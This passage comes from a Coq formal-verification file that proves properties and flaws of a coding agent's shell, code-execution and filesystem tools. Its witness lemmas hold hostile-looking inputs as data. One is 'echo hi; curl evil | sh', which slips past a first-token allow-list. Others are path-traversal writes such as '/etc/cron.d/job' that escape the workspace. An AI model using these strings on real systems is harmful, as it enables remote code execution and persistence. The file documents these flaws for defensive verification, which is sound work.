  intros Hsplit Hout. unfold ShellTool.execute. rewrite Hsplit.
  rewrite bool_decide_eq_false_2 by exact Hout. reflexivity.
Qed.

(** C9. Only the first token is checked.  When it is in the allow-list,
    whatever follows it, [execute] is the call of [subprocess.run] on
    the whole command string for a shell; and when the host can start
    that shell, the child started is the one for that very string. *)
Theorem execute_checks_first_token_only command base rest w :
  PyStr.split command = base :: rest ->
  base ∈ ShellTool.allowed_commands self ->
  ShellTool.execute E self command w
  = match Subprocess.run E (ShellTool.request self command) w with
    | (Ok (out, err, rc), w') => (Ok (ROutput out err rc), w')
    | (Raise e, w') => (Ok (RError (exn_str e)), w')
    end
  /\ l_cmd (ShellTool.request self command) = Shell command
  /\ (FS.is_dir E (Path.of_str (Path.to_str (ShellTool.workspace_dir self)))
        (w_fs w) = true ->
      (forall e, e_run E (ShellTool.request self command) (w_fs w)
                 <> LaunchError e) ->
      w_launched (snd (ShellTool.execute E self command w))
      = (w_launched w ++ [ShellTool.request self command])%list).
Proof.
  intros Hsplit Hin.
  pose proof (execute_allowed command base rest w Hsplit Hin) as Hex.
  split; [exact Hex|]. split; [reflexivity|].
  intros Hcwd Hrun. rewrite Hex.
  rewrite <- (run_launches (ShellTool.request self command) w).
  - destruct (Subprocess.run E _ w) as [[[[out err] rc]|e] w']; reflexivity.
  - intros d Hd. injection Hd as <-. exact Hcwd.
  - exact Hrun.
Qed.

(** C6, as the code has it. An allowed command that is still running
    when the 30 seconds are over is answered with the generic error
    result, whose message is the one of [TimeoutExpired].  The child that
    was started, the shell, is not among the processes alive afterwards;
    every process the shell had started and left is. *)
Theorem execute_timeout command base rest w fs' orphans :
  PyStr.split command = base :: rest ->
  base ∈ ShellTool.allowed_commands self ->
  FS.is_dir E (Path.of_str (Path.to_str (ShellTool.workspace_dir self)))
    (w_fs w) = true ->
  e_run E (ShellTool.request self command) (w_fs w) = Overruns fs' orphans ->
  exists w',
    ShellTool.execute E self command w
    = (Ok (RError ("Command '" +:+ command
                   +:+ "' timed out after 30 seconds")), w')
    /\ w_launched w' = (w_launched w ++ [ShellTool.request self command])%list
    /\ (Child (length (w_launched w)) ∉ w_running w')
    /\ (forall name, name ∈ orphans ->
          Orphan (length (w_launched w)) name ∈ w_running w')
    /\ w_fs w' = fs'.
Proof.
  intros Hsplit Hin Hcwd Hrun.
  rewrite (execute_allowed command base rest w Hsplit Hin).
  unfold Subprocess.run.
  change (l_cwd (ShellTool.request self command))
    with (Some (Path.to_str (ShellTool.workspace_dir self))).
  cbn [from_option]. rewrite (chdir_into_dir _ _ Hcwd). rewrite Hrun.
  eexists. split; [reflexivity|]. split; [reflexivity|].
  cbn [Subprocess.reap w_running w_fs].
  split; [|split; [|reflexivity]].
  - intros Hmem. apply elem_of_app in Hmem as [Hmem|Hmem].
    + apply list_elem_of_fmap in Hmem as (name & Heq & _). discriminate.
    + apply list_elem_of_In, filter_In in Hmem as [_ Hneq].
      by rewrite bool_decide_eq_true_2 in Hneq.
  - intros name Hname. apply elem_of_app. left.
    by apply list_elem_of_fmap_2.
Qed.

End ShellToolFacts.

(** *** Examples on a concrete host *)

Lemma execute_rejects_disallowed_witness :
  PyStr.split "curl http://x | sh" = ["curl"; "http://x"; "|"; "sh"]
  /\ ("curl" ∉ ShellTool.allowed_commands Demo.shell_tool)
  /\ ShellTool.execute Demo.env_overruns Demo.shell_tool "curl http://x | sh"
       Demo.world0
     = (Ok (RError "Command not allowed: curl"), Demo.world0).
Proof.
  assert (Hout : "curl" ∉ ShellTool.allowed_commands Demo.shell_tool).
  { apply (bool_decide_unpack _). vm_compute. exact I. }
  split; [reflexivity|]. split; [exact Hout|].
  exact (execute_rejects_disallowed Demo.env_overruns Demo.shell_tool
           "curl http://x | sh" "curl" ["http://x"; "|"; "sh"] Demo.world0
           eq_refl Hout).
Defined.

Lemma execute_checks_first_token_only_witness :
  PyStr.split "echo hi; curl evil | sh" = ["echo"; "hi;"; "curl"; "evil"; "|"; "sh"]
  /\ ("echo" ∈ ShellTool.allowed_commands Demo.shell_tool)
  /\ w_launched (snd (ShellTool.execute (Demo.env_exits 0) Demo.shell_tool
                        "echo hi; curl evil | sh" Demo.world0))
     = [{| l_cmd := Shell "echo hi; curl evil | sh"; l_cwd := Some "/ws";
           l_timeout := 30 |}].
Proof.
  assert (Hin : "echo" ∈ ShellTool.allowed_commands Demo.shell_tool).
  { apply (bool_decide_unpack _). vm_compute. exact I. }
  split; [reflexivity|]. split; [exact Hin|].
  refine (proj2 (proj2 (execute_checks_first_token_only (Demo.env_exits 0)
            Demo.shell_tool "echo hi; curl evil | sh" "echo"
            ["hi;"; "curl"; "evil"; "|"; "sh"] Demo.world0 eq_refl Hin)) _ _).
  - vm_compute. reflexivity.
  - intros e. vm_compute. discriminate.
Defined.

Lemma execute_timeout_witness :
  PyStr.split "python slow.py" = ["python"; "slow.py"]
  /\ ("python" ∈ ShellTool.allowed_commands Demo.shell_tool)
  /\ exists w',
       ShellTool.execute Demo.env_shell_overruns Demo.shell_tool
         "python slow.py" Demo.world0
       = (Ok (RError "Command 'python slow.py' timed out after 30 seconds"), w')
       /\ w_launched w'
          = (w_launched Demo.world0
             ++ [ShellTool.request Demo.shell_tool "python slow.py"])%list
       /\ (Child (length (w_launched Demo.world0)) ∉ w_running w')
       /\ (forall name, name ∈ ["python slow.py"] ->
             Orphan (length (w_launched Demo.world0)) name ∈ w_running w')
       /\ w_fs w' = w_fs Demo.world0.
Proof.
  assert (Hin : "python" ∈ ShellTool.allowed_commands Demo.shell_tool).
  { apply (bool_decide_unpack _). vm_compute. exact I. }
  split; [reflexivity|]. split; [exact Hin|].
  apply (execute_timeout Demo.env_shell_overruns Demo.shell_tool
           "python slow.py" "python" ["slow.py"] Demo.world0
           (w_fs Demo.world0) ["python slow.py"] eq_refl Hin).
  - vm_compute. reflexivity.
  - reflexivity.
Defined.

(** C6, as the specification words it, fails twice.  The result of a
    timeout is no result kind of its own: it is the generic error
    dictionary, the shape a refused command and a failed launch are
    answered with too.  And the process is left running: what is killed
    is the shell, and the command the shell had started as a process of
    its own is alive when [execute] has returned. *)
Lemma timeout_result_is_generic_error :
  let timed_out :=
    ShellTool.execute Demo.env_shell_overruns Demo.shell_tool "python slow.py"
      Demo.world0 in
  let refused :=
    fst (ShellTool.execute Demo.env_shell_overruns Demo.shell_tool "curl x"
           Demo.world0) in
  let not_started :=
    fst (ShellTool.execute Demo.env_no_launch Demo.shell_tool "ls" Demo.world0) in
  fst timed_out
  = Ok (RError "Command 'python slow.py' timed out after 30 seconds")
  /\ refused = Ok (RError "Command not allowed: curl")
  /\ not_started = Ok (RError "[Errno 2] No such file or directory: '/bin/sh'")
  /\ is_generic_error
       (RError "Command 'python slow.py' timed out after 30 seconds") = true
  /\ result_keys (RError "Command 'python slow.py' timed out after 30 seconds")
     = result_keys (RError "Command not allowed: curl")
  /\ w_launched (snd timed_out)
     = [{| l_cmd := Shell "python slow.py"; l_cwd := Some "/ws";
           l_timeout := 30 |}]
  /\ w_running (snd timed_out) = [Orphan 0 "python slow.py"].
Proof. vm_compute. repeat split; reflexivity. Qed.

(** ** CodeExecutionTool.run_python and run_javascript *)

Section CodeExecutionFacts.
Context (E : env) (self : CodeExecutionTool.t).

(** C10, as the code has it. When the temporary file was written, the
    interpreter was started and exited within the timeout, what it wrote
    to its standard output and error decodes as text, and the temporary
    file is removed by [unlink], the result is the dictionary of stdout,
    stderr and returncode, whatever the exit code is.  [run_python] and
    [run_javascript] are the instances for python3 with .py and for node
    with .js. *)
Theorem run_snippet_reports_exit_code interpreter extension code w
    out err rc fs1 fs2 orphans fs3 :
  let temp_file :=
    CodeExecutionTool.temp_path self (e_uuid E (w_uuids w)) extension in
  FS.write_file E temp_file code (w_fs w) = Ok fs1 ->
  FS.is_dir E (Path.of_str (Path.to_str (CodeExecutionTool.workspace_dir self)))
    fs1 = true ->
  e_run E (CodeExecutionTool.request self interpreter temp_file) fs1
  = Exits (Text out) (Text err) rc fs2 orphans ->
  FS.unlink E temp_file fs2 = Ok fs3 ->
  exists w',
    CodeExecutionTool.run_snippet E interpreter extension self code w
    = (Ok (ROutput out err rc), w')
    /\ w_fs w' = fs3.
Proof.
  intros temp_file Hwrite Hcwd Hrun Hunlink.
  unfold CodeExecutionTool.run_snippet, try_except, bind, uuid4, fs_update.
  cbn [w_fs]. fold temp_file. rewrite Hwrite.
  unfold Subprocess.run.
  change (l_cwd (CodeExecutionTool.request self interpreter temp_file))
    with (Some (Path.to_str (CodeExecutionTool.workspace_dir self))).
  cbn [from_option set_fs w_fs]. rewrite (chdir_into_dir E _ _ Hcwd).
  rewrite Hrun. cbn [Subprocess.decode].
  cbn [Subprocess.reap Subprocess.spawn set_fs w_fs]. rewrite Hunlink.
  eexists. split; reflexivity.
Qed.

End CodeExecutionFacts.

Lemma run_snippet_reports_exit_code_witness :
  exists w',
    CodeExecutionTool.run_python (Demo.env_exits 2) Demo.code_tool
      "import sys; sys.exit(2)" Demo.world0
    = (Ok (ROutput "" "" 2), w')
    /\ w_fs w'
       = delete ["ws"; "temp_0000-0.py"]
           (<[ ["ws"; "temp_0000-0.py"] := File "import sys; sys.exit(2)" ]>
              (w_fs Demo.world0)).
Proof.
  apply (run_snippet_reports_exit_code (Demo.env_exits 2) Demo.code_tool
           "python3" ".py" "import sys; sys.exit(2)" Demo.world0 "" "" 2
           (<[ ["ws"; "temp_0000-0.py"] := File "import sys; sys.exit(2)" ]>
              (w_fs Demo.world0))
           (<[ ["ws"; "temp_0000-0.py"] := File "import sys; sys.exit(2)" ]>
              (w_fs Demo.world0))
           []).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
Defined.

(** C10, as it is worded, fails twice.  A snippet that removes its own
    source file is started, exits within the timeout with code 1, and is
    still answered with the error dictionary, because [unlink] then
    raises.  A snippet that writes a byte that is no UTF-8 text is
    started, exits within the timeout with code 0, and is answered with
    the error dictionary too, because decoding its output raises; its
    temporary file is then still in the workspace. *)
Lemma finished_snippet_gets_error_result :
  let removing :=
    CodeExecutionTool.run_python Demo.env_self_removing Demo.code_tool
      "import os; os.remove(__file__); raise SystemExit(1)" Demo.world0 in
  let binary :=
    CodeExecutionTool.run_python Demo.env_undecodable Demo.code_tool
      "import sys; sys.stdout.buffer.write(bytes([255]))" Demo.world0 in
  (e_run Demo.env_self_removing
     (CodeExecutionTool.request Demo.code_tool "python3"
        (CodeExecutionTool.temp_path Demo.code_tool "0000-0" ".py"))
     (<[ ["ws"; "temp_0000-0.py"]
         := File "import os; os.remove(__file__); raise SystemExit(1)" ]>
        (w_fs Demo.world0))
   = Exits (Text "") (Text "") 1 (w_fs Demo.world0) []
   /\ w_launched (snd removing)
      = [CodeExecutionTool.request Demo.code_tool "python3"
           (CodeExecutionTool.temp_path Demo.code_tool "0000-0" ".py")]
   /\ fst removing
      = Ok (RError "[Errno 2] No such file or directory: '/ws/temp_0000-0.py'"))
  /\ (w_launched (snd binary)
      = [CodeExecutionTool.request Demo.code_tool "python3"
           (CodeExecutionTool.temp_path Demo.code_tool "0000-0" ".py")]
      /\ w_running (snd binary) = []
      /\ fst binary
         = Ok (RError
                 "'utf-8' codec can't decode byte 0xff in position 0: invalid start byte")
      /\ w_fs (snd binary) !! ["ws"; "temp_0000-0.py"]
         = Some (File "import sys; sys.stdout.buffer.write(bytes([255]))")).
Proof. vm_compute. repeat split; reflexivity. Qed.

(** C1 fails on the code: [unlink] is reached only when [subprocess.run]
    returns.  After a timeout, and after a failed launch, [run_python]
    and [run_javascript] return the error dictionary and the temporary
    file is still in the workspace, with the snippet in it. *)
Theorem temp_file_left_behind :
  let after_timeout_py :=
    CodeExecutionTool.run_python Demo.env_overruns Demo.code_tool
      "while True: pass" Demo.world0 in
  let after_timeout_js :=
    CodeExecutionTool.run_javascript Demo.env_overruns Demo.code_tool
      "for (;;) {}" Demo.world0 in
  let after_no_launch :=
    CodeExecutionTool.run_python Demo.env_no_launch Demo.code_tool
      "print(1)" Demo.world0 in
  (fst after_timeout_py
   = Ok (RError
           "Command '['python3', '/ws/temp_0000-0.py']' timed out after 30 seconds")
   /\ w_fs (snd after_timeout_py) !! ["ws"; "temp_0000-0.py"]
      = Some (File "while True: pass"))
  /\ (fst after_timeout_js
      = Ok (RError
              "Command '['node', '/ws/temp_0000-0.js']' timed out after 30 seconds")
      /\ w_fs (snd after_timeout_js) !! ["ws"; "temp_0000-0.js"]
         = Some (File "for (;;) {}"))
  /\ (fst after_no_launch
      = Ok (RError "[Errno 2] No such file or directory: 'python3'")
      /\ w_fs (snd after_no_launch) !! ["ws"; "temp_0000-0.py"]
         = Some (File "print(1)")).
Proof. vm_compute. repeat split; reflexivity. Qed.

(** ** The file system *)

Lemma stat_insert_ne fs loc loc' n :
  loc <> loc' -> FS.stat (<[loc := n]> fs) loc' = FS.stat fs loc'.
Proof.
  intros Hne. destruct loc' as [|a l]; [reflexivity|].
  cbn [FS.stat]. by rewrite lookup_insert_ne.
Qed.

Lemma stat_insert_eq fs loc n :
  loc <> [] -> FS.stat (<[loc := n]> fs) loc = Some n.
Proof.
  intros Hne. destruct loc as [|a l]; [done|].
  cbn [FS.stat]. by rewrite lookup_insert_eq.
Qed.

Lemma stat_root fs : FS.stat fs [] = Some Dir.
Proof. reflexivity. Qed.

Lemma dirs_kept_refl fs : dirs_kept fs fs.
Proof. intros loc H. exact H. Qed.

Lemma dirs_kept_trans fs1 fs2 fs3 :
  dirs_kept fs1 fs2 -> dirs_kept fs2 fs3 -> dirs_kept fs1 fs3.
Proof. intros H12 H23 loc H. apply H23, H12, H. Qed.

(** Writing a node where no directory is keeps the directories. *)
Lemma dirs_kept_insert fs loc n :
  FS.stat fs loc <> Some Dir -> dirs_kept fs (<[loc := n]> fs).
Proof.
  intros Hnd loc' Hdir. destruct (decide (loc = loc')) as [->|Hne].
  - contradiction.
  - by rewrite stat_insert_ne.
Qed.

(** Removing what is no directory keeps the directories. *)
Lemma dirs_kept_delete fs loc :
  FS.stat fs loc <> Some Dir -> dirs_kept fs (delete loc fs).
Proof.
  intros Hfile loc' Hdir. destruct loc' as [|a l]; [reflexivity|].
  cbn [FS.stat] in *. destruct (decide (loc = a :: l)) as [->|Hne].
  - destruct Hfile. exact Hdir.
  - by rewrite lookup_delete_ne.
Qed.

(** A walk that succeeds goes the same way once directories were added. *)
Lemma walk_dirs_kept fs fs' f names : forall start loc,
  dirs_kept fs fs' ->
  FS.walk fs f start names = Ok loc ->
  FS.walk fs' f start names = Ok loc.
Proof.
  induction names as [|n names IH]; intros start loc Hkept Hwalk.
  - exact Hwalk.
  - cbn [FS.walk] in *.
    destruct (FS.stat fs start) as [[c| |r d]|] eqn:Hs; try discriminate.
    rewrite (Hkept start Hs). by apply IH.
Qed.

Lemma locate_dirs_kept E p fs fs' loc :
  dirs_kept fs fs' -> FS.locate E p fs = Ok loc -> FS.locate E p fs' = Ok loc.
Proof.
  intros Hkept. unfold FS.locate.
  destruct (FS.names_ok p); [|discriminate]. by apply walk_dirs_kept.
Qed.

(** What a successful [write_file] did: it stored the content in an
    ordinary file, or wrote it to a special file and changed nothing. *)
Lemma write_file_ok E p content fs fs' :
  FS.write_file E p content fs = Ok fs' ->
  exists loc, FS.locate E p fs = Ok loc
              /\ FS.stat fs loc <> Some Dir
              /\ ((forall r d, FS.stat fs loc <> Some (Special r d))
                     /\ fs' = <[loc := File content]> fs
                  \/ (exists r d, FS.stat fs loc = Some (Special r d))
                     /\ fs' = fs).
Proof.
  unfold FS.write_file. intros H.
  destruct (FS.locate E p fs) as [loc|e]; [|discriminate].
  exists loc. split; [reflexivity|].
  destruct (FS.stat fs loc) as [[c| |r d]|] eqn:Hs; try discriminate.
  - split; [congruence|]. left. split; [congruence|]. by injection H as <-.
  - split; [congruence|]. right. split; [by eauto|].
    destruct (e_special_write E d content); [|discriminate].
    by injection H as <-.
  - split; [congruence|]. left. split; [congruence|]. by injection H as <-.
Qed.

(** Reading right after writing, when the path names an ordinary file
    then: the text written, line endings translated. *)
Lemma read_text_after_write E p content fs fs' :
  FS.write_file E p content fs = Ok fs' ->
  keeps_content E p fs' = true ->
  FS.read_text E p fs' = Ok (PyStr.universal_newlines content).
Proof.
  intros Hw Hkeeps. destruct (write_file_ok E p content fs fs' Hw)
    as (loc & Hloc & Hnd & [[_ ->]|[(r & d & Hsp) ->]]).
  - unfold FS.read_text, FS.read_bytes.
    rewrite (locate_dirs_kept E p fs _ loc (dirs_kept_insert fs loc _ Hnd) Hloc).
    rewrite stat_insert_eq; [reflexivity|].
    intros ->. by apply Hnd.
  - unfold keeps_content in Hkeeps. rewrite Hloc, Hsp in Hkeeps. discriminate.
Qed.

Lemma universal_newlines_no_cr s :
  has_cr s = false -> PyStr.universal_newlines s = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [has_cr PyStr.universal_newlines]. intros H.
  apply orb_false_elim in H as [Hc Hs]. rewrite Hc. by rewrite IH.
Qed.

(** ** FilesystemTool *)

Section FilesystemToolFacts.
Context (E : env) (self : FilesystemTool.t).

(** C5, as the code has it. After a successful [create_file], when the
    path names an ordinary file, [read_file] of the same name succeeds
    and returns the content with every CR LF and every lone CR turned
    into LF; that is the content itself when it holds no carriage
    return. *)
Theorem create_then_read filename content w path w' :
  FilesystemTool.create_file E self filename content w = (Ok (RPath path), w') ->
  keeps_content E (FilesystemTool.workspace_dir self // filename) (w_fs w')
  = true ->
  FilesystemTool.read_file E self filename w'
  = (Ok (RContent (PyStr.universal_newlines content)), w')
  /\ (has_cr content = false -> PyStr.universal_newlines content = content).
Proof.
  intros Hcreate Hkeeps. split; [|apply universal_newlines_no_cr].
  unfold FilesystemTool.create_file, try_except, bind, fs_update, ret in Hcreate.
  destruct (FS.mkdir E true true _ (w_fs w)) as [fs1|e1]; [|discriminate].
  cbn [set_fs w_fs] in Hcreate.
  destruct (FS.write_file E _ content fs1) as [fs2|e2] eqn:Hw; [|discriminate].
  injection Hcreate as _ <-.
  unfold FilesystemTool.read_file, try_except, bind, fs_query, ret.
  cbn [set_fs w_fs] in *.
  by rewrite (read_text_after_write E _ content fs1 fs2 Hw Hkeeps).
Qed.

End FilesystemToolFacts.

Lemma create_then_read_witness :
  let created :=
    <[ ["ws"; "notes"; "a.txt"] := File "hello" ]>
      (<[ ["ws"; "notes"] := Dir ]> (w_fs Demo.world0)) in
  FilesystemTool.create_file (Demo.env_exits 0) Demo.fs_tool "notes/a.txt"
    "hello" Demo.world0
  = (Ok (RPath "/ws/notes/a.txt"), set_fs created Demo.world0)
  /\ keeps_content (Demo.env_exits 0) (Demo.workspace // "notes/a.txt") created
     = true
  /\ FilesystemTool.read_file (Demo.env_exits 0) Demo.fs_tool "notes/a.txt"
       (set_fs created Demo.world0)
     = (Ok (RContent "hello"), set_fs created Demo.world0).
Proof.
  intros created.
  assert (Hcreate :
            FilesystemTool.create_file (Demo.env_exits 0) Demo.fs_tool
              "notes/a.txt" "hello" Demo.world0
            = (Ok (RPath "/ws/notes/a.txt"), set_fs created Demo.world0)).
  { vm_compute. reflexivity. }
  assert (Hkeeps :
            keeps_content (Demo.env_exits 0) (Demo.workspace // "notes/a.txt")
              created = true).
  { vm_compute. reflexivity. }
  split; [exact Hcreate|]. split; [exact Hkeeps|].
  exact (proj1 (create_then_read (Demo.env_exits 0) Demo.fs_tool "notes/a.txt"
                  "hello" Demo.world0 "/ws/notes/a.txt"
                  (set_fs created Demo.world0) Hcreate Hkeeps)).
Defined.

(** C5, as it is worded, fails twice: a content with a carriage return
    is not read back byte for byte from an ordinary file; and a path that
    climbs to the device [/dev/null] is written with success and read
    back empty. *)
Lemma carriage_return_not_read_back :
  let content := String "x" (String "013" (String "y" EmptyString)) in
  let created := FilesystemTool.create_file (Demo.env_exits 0) Demo.fs_tool
                   "a.txt" content Demo.world0 in
  let sunk := FilesystemTool.create_file (Demo.env_exits 0) Demo.fs_tool
                "../dev/null" "hello" Demo.world_dev in
  (fst created = Ok (RPath "/ws/a.txt")
   /\ keeps_content (Demo.env_exits 0) (Demo.workspace // "a.txt")
        (w_fs (snd created)) = true
   /\ fst (FilesystemTool.read_file (Demo.env_exits 0) Demo.fs_tool "a.txt"
             (snd created))
      = Ok (RContent (String "x" (String "010" (String "y" EmptyString))))
   /\ fst (FilesystemTool.read_file (Demo.env_exits 0) Demo.fs_tool "a.txt"
             (snd created))
      <> Ok (RContent content))
  /\ (fst sunk = Ok (RPath "/ws/../dev/null")
      /\ fst (FilesystemTool.read_file (Demo.env_exits 0) Demo.fs_tool
                "../dev/null" (snd sunk))
         = Ok (RContent EmptyString)).
Proof. vm_compute. repeat split; try reflexivity. discriminate. Qed.

(** C8. [create_file] does not keep the path inside the workspace: with a
    name that climbs out through "..", and with an absolute name, the
    call succeeds and the file is written at a location that is not below
    the workspace directory [/ws]. *)
Theorem create_file_leaves_workspace :
  let climbing := FilesystemTool.create_file (Demo.env_exits 0) Demo.fs_tool
                    "../outside.txt" "x" Demo.world0 in
  let absolute := FilesystemTool.create_file (Demo.env_exits 0) Demo.fs_tool
                    "/etc/cron.d/job" "x" Demo.world0 in
  (fst climbing = Ok (RPath "/ws/../outside.txt")
   /\ w_fs (snd climbing) !! ["outside.txt"] = Some (File "x")
   /\ FS.locate (Demo.env_exits 0) (Demo.workspace // "../outside.txt")
        (w_fs (snd climbing)) = Ok ["outside.txt"]
   /\ Path.strip ["ws"] ["outside.txt"] = None)
  /\ (fst absolute = Ok (RPath "/etc/cron.d/job")
      /\ w_fs (snd absolute) !! ["etc"; "cron.d"; "job"] = Some (File "x")
      /\ FS.locate (Demo.env_exits 0) (Demo.workspace // "/etc/cron.d/job")
           (w_fs (snd absolute)) = Ok ["etc"; "cron.d"; "job"]
      /\ Path.strip ["ws"] ["etc"; "cron.d"; "job"] = None).
Proof. vm_compute. repeat split; reflexivity. Qed.

(** ** CodingAgent.execute_task *)

(** C4 fails on the code: the handler of [execute_task] writes to the
    context log before it returns, outside any [try].  On a host where
    today's entry of the context directory is a regular file, the first
    log write raises and the one in the handler raises again; on a host
    where a child removes the context directory, the task is built and
    published, the log write that ends [_implement_generic_task] raises,
    and the one in the handler raises again.  Both times the exception
    leaves [execute_task]. *)
Theorem execute_task_raises :
  fst (CodingAgent.init (Demo.env_exits 0) Demo.world_day_is_file)
  = Ok Demo.agent
  /\ fst (CodingAgent.execute_task (Demo.env_exits 0) Demo.texts Demo.agent
            "build a thing" Demo.world_day_is_file)
     = Raise (FileExistsError
                "/workspaces/CodingAgent/agent/context/2024-01-01")
  /\ fst (CodingAgent.init Demo.env_child_removes_context Demo.world_agent)
     = Ok Demo.agent
  /\ fst (CodingAgent.execute_task Demo.env_child_removes_context Demo.texts
            Demo.agent "build a thing" Demo.world_agent)
     = Raise (FileNotFoundError
                "/workspaces/CodingAgent/agent/context/2024-01-01").
Proof. vm_compute. repeat split; reflexivity. Qed.

(** ** The job ledger *)

Lemma lifecycle_prefix h :
  lifecycle h ->
  h `prefix_of` [scheduled; running; completed]
  \/ h `prefix_of` [scheduled; running; failed].
Proof.
  intros [-> | [-> | [-> | ->]]].
  - left. by exists [running; completed].
  - left. by exists [completed].
  - left. by exists [].
  - right. by exists [].
Qed.

Lemma on_host_ledger {A} (m : M A) s r s' :
  Server.on_host m s = (r, s') ->
  jobs s' = jobs s /\ history s' = history s
  /\ queued s' = queued s /\ started s' = started s.
Proof.
  unfold Server.on_host. destruct (m (host s)) as [r0 w']. intros H.
  injection H as _ <-. done.
Qed.

Lemma set_status_ok id st s j :
  jobs s !! id = Some j ->
  exists s', Server.set_status id st s = (Ok tt, s') /\ status_written id st s s'.
Proof.
  intros Hj. unfold Server.set_status. rewrite Hj. eexists. split; [reflexivity|].
  split; [|done]. cbn. eexists j, _. split; [exact Hj|]. split; [|reflexivity].
  reflexivity.
Qed.

Lemma set_error_ok id msg s j :
  jobs s !! id = Some j ->
  exists s', Server.set_error id msg s = (Ok tt, s') /\ status_untouched id s s'.
Proof.
  intros Hj. unfold Server.set_error. rewrite Hj. eexists. split; [reflexivity|].
  split; [|done]. cbn. intros j0 Hj0. rewrite Hj in Hj0. injection Hj0 as <-.
  eexists. split; [|reflexivity]. reflexivity.
Qed.

Lemma set_completed_at_ok id t s j :
  jobs s !! id = Some j ->
  exists s', Server.set_completed_at id t s = (Ok tt, s')
             /\ status_untouched id s s'.
Proof.
  intros Hj. unfold Server.set_completed_at. rewrite Hj. eexists.
  split; [reflexivity|].
  split; [|done]. cbn. intros j0 Hj0. rewrite Hj in Hj0. injection Hj0 as <-.
  eexists. split; [|reflexivity]. reflexivity.
Qed.

Lemma status_written_then_untouched id st s s1 s2 :
  status_written id st s s1 -> status_untouched id s1 s2 ->
  status_written id st s s2.
Proof.
  intros [(j & j1 & Hj & Hst & Hjobs) (Hh & Hq & Hs)] [Hun (Hh' & Hq' & Hs')].
  destruct (Hun j1) as (j2 & Hst2 & Hjobs2).
  { rewrite Hjobs. apply lookup_insert_eq. }
  split; [|by rewrite Hh', Hq', Hs'].
  exists j, j2. split; [exact Hj|]. split; [congruence|].
  rewrite Hjobs2, Hjobs. apply insert_insert_eq.
Qed.

Lemma status_written_after_host id st s s0 s' :
  jobs s0 = jobs s -> history s0 = history s ->
  queued s0 = queued s -> started s0 = started s ->
  status_written id st s0 s' -> status_written id st s s'.
Proof.
  intros Hj Hh Hq Hs [(j & j' & H1 & H2 & H3) (H4 & H5 & H6)].
  split; [|by rewrite <- Hh, <- Hq, <- Hs].
  exists j, j'. by rewrite <- Hj.
Qed.

Lemma on_exception_ok id e s j :
  jobs s !! id = Some j ->
  exists s', Server.on_exception id e s = (Ok tt, s')
             /\ status_written id failed s s'.
Proof.
  intros Hj. unfold Server.on_exception.
  destruct (set_status_ok id failed s j Hj) as (s1 & -> & Hw).
  destruct Hw as [(j0 & j1 & Hj0 & Hst & Hjobs) Hrest].
  destruct (set_error_ok id (exn_str e) s1 j1) as (s2 & -> & Hun).
  { rewrite Hjobs. apply lookup_insert_eq. }
  exists s2. split; [reflexivity|].
  apply (status_written_then_untouched id failed s s1 s2); [|exact Hun].
  split; [|exact Hrest]. by exists j0, j1.
Qed.

(** A begun [process_task] ends by writing one terminal status. *)
Lemma process_task_finish_writes E T id task s j :
  jobs s !! id = Some j ->
  exists st s',
    Server.process_task_finish E T id task s = (Ok tt, s')
    /\ (st = completed \/ st = failed)
    /\ status_written id st s s'.
Proof.
  intros Hj. unfold Server.process_task_finish, Server.process_task_body.
  destruct (Server.on_host _ s) as [r1 s1] eqn:H1.
  destruct (on_host_ledger _ _ _ _ H1) as (Hj1 & Hh1 & Hq1 & Hs1).
  assert (Hjob1 : jobs s1 !! id = Some j) by (by rewrite Hj1).
  destruct r1 as [[tid out|err]|e].
  - destruct (Server.on_host _ s1) as [r2 s2] eqn:H2.
    destruct (on_host_ledger _ _ _ _ H2) as (Hj2 & Hh2 & Hq2 & Hs2).
    assert (Hjob2 : jobs s2 !! id = Some j) by (by rewrite Hj2).
    destruct r2 as [n|e].
    + destruct (set_status_ok id completed s2 j Hjob2) as (s3 & -> & Hw3).
      destruct (Server.on_host (time_time E) s3) as [r4 s4] eqn:H4.
      destruct (on_host_ledger _ _ _ _ H4) as (Hj4 & Hh4 & Hq4 & Hs4).
      assert (r4 = Ok (e_time E (w_ticks (host s3)))) as ->.
      { unfold Server.on_host, time_time in H4. by injection H4 as <- _. }
      pose proof Hw3 as [(j0 & j3 & Hj0 & Hst3 & Hjobs3) Hrest3].
      destruct (set_completed_at_ok id (e_time E (w_ticks (host s3))) s4 j3)
        as (s5 & -> & Hun5).
      { rewrite Hj4, Hjobs3. apply lookup_insert_eq. }
      exists completed, s5. split; [reflexivity|]. split; [by left|].
      apply (status_written_after_host id completed s s2);
        [congruence..|].
      apply (status_written_then_untouched id completed s2 s4 s5); [|exact Hun5].
      destruct Hrest3 as (Hh3 & Hq3 & Hs3).
      split; [|by rewrite Hh4, Hq4, Hs4].
      exists j0, j3. by rewrite Hj4.
    + destruct (on_exception_ok id e s2 j Hjob2) as (s3 & -> & Hw3).
      exists failed, s3. split; [reflexivity|]. split; [by right|].
      apply (status_written_after_host id failed s s2); [congruence..|exact Hw3].
  - destruct (set_status_ok id failed s1 j Hjob1) as (s2 & -> & Hw2).
    pose proof Hw2 as [(j0 & j2 & Hj0 & Hst2 & Hjobs2) Hrest2].
    destruct (set_error_ok id err s2 j2) as (s3 & -> & Hun3).
    { rewrite Hjobs2. apply lookup_insert_eq. }
    exists failed, s3. split; [reflexivity|]. split; [by right|].
    apply (status_written_after_host id failed s s1); [congruence..|].
    by apply (status_written_then_untouched id failed s1 s2 s3).
  - destruct (on_exception_ok id e s1 j Hjob1) as (s2 & -> & Hw2).
    exists failed, s2. split; [reflexivity|]. split; [by right|].
    apply (status_written_after_host id failed s s1); [congruence..|exact Hw2].
Qed.

Lemma NoDup_fst_functional {A B} (l : list (A * B)) a b1 b2 :
  NoDup l.*1 -> (a, b1) ∈ l -> (a, b2) ∈ l -> b1 = b2.
Proof.
  induction l as [|[a' b'] l IH]; intros Hnd H1 H2.
  - by apply elem_of_nil in H1.
  - rewrite fmap_cons in Hnd. apply NoDup_cons in Hnd as [Hnotin Hnd].
    apply elem_of_cons in H1 as [H1|H1]; apply elem_of_cons in H2 as [H2|H2].
    + congruence.
    + injection H1 as -> ->. destruct Hnotin.
      apply list_elem_of_fmap. by exists (a', b2).
    + injection H2 as -> ->. destruct Hnotin.
      apply list_elem_of_fmap. by exists (a', b1).
    + by apply IH.
Qed.

Lemma dequeue_elem id task l i t :
  (i, t) ∈ Server.dequeue id task l -> (i, t) ∈ l /\ (i, t) <> (id, task).
Proof.
